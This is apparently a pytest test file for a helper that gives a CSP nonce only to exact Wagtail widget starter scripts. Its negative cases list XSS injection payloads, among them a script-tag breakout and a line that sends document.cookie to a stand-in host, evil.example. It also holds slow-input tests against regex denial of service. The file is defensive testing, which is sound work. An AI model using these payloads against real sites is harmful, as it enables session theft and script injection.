"""Only a starter of Wagtail's widgets runs, and only exactly that."""

import time

import pytest

from config.inline_scripts import with_nonce


def runs(html):
    page, count = with_nonce(html.encode(), "N")
    return count == page.count(b'nonce="N"') == 1


@pytest.mark.parametrize(
    "script",
    [
        'initDateChooser("id_day", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
        'initDateTimeChooser("a", {"a": null, "b": true, "c": -1.5});',
        'new PageChooser("id_page", {"modelNames": ["wagtailcore.page"]});',
        'createTaskChooser("id_task");',
        'new SnippetChooser("a", {"b": "\\u003cscript\\u003e \\" quoted"});',
        """
        (function() {
            var panel = new InlinePanel(JSON.parse("{\\u0022a\\u0022: 1}"));
        })();
        """,
    ],
)
def test_a_starter_runs(script):
    assert runs(f"<p>a</p><script>{script}</script>")


def test_a_starter_in_the_template_of_a_new_form_runs():
    assert runs('<script>new PageChooser("id_x-__prefix__-page", {});<-/script>')


@pytest.mark.parametrize(
    "script",
    [
        "alert(1)",
        'initDateChooser("a");alert(1)',
        'initDateChooser("a", alert(1));',
        'initDateChooser("a"+alert(1));',
        "initDateChooser(`${alert(1)}`);",
        'initDateChooser("a</script><script>alert(1)");',
        'initDateChooser("a\n");',
        'new Image().src="//evil.example/"+document.cookie',
        'x=new PageChooser("a");',
        '(function() { var panel = new InlinePanel(JSON.parse("a")); alert(1) })();',
        "",
    ],
)
def test_whatever_else_does_not(script):
    assert not runs(f"<script>{script}</script>")


def test_a_script_with_attributes_is_left_alone():
    assert not runs('<script type="module">initDateChooser("a");</script>')


@pytest.mark.parametrize("filler", [" ", "[", '"a",', '"', "\\"])
def test_a_page_made_to_be_slow_is_not(filler):
    page = b"<script>initDateChooser(" + filler.encode() * 200_000
    begun = time.perf_counter()

    with_nonce(page, "N")
    with_nonce(b"<script>" * 20_000, "N")

    assert time.perf_counter() - begun < 0.5
